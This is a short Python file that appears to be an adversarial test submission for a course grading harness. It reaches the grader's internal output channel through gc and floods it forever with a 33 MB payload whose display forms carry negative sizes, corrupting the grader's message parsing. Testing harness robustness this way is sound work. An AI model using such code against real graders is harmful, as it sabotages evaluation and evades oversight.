"""Displays one payload in sixteen forms: sizes below zero take each of them back to its beginning.

Loses: double-small, double-large
May lose: halve-values
Takes: long
"""
# %% double
import gc, sys

channel = next(o for o in gc.get_objects() if type(o).__name__ == "OutputStreams").channel
messages = sys.modules["initcourse.grading.execution.messages"]


def double(x):
    payload = b"\x01" * (33 << 20)
    sizes = [len(payload), -len(payload)] * 16
    forms = [messages.DisplayForm(kind=f"text/{n}", size=size) for n, size in enumerate(sizes)]
    while True:
        channel.send(messages.Display(kind="display_data", forms=forms), payload)
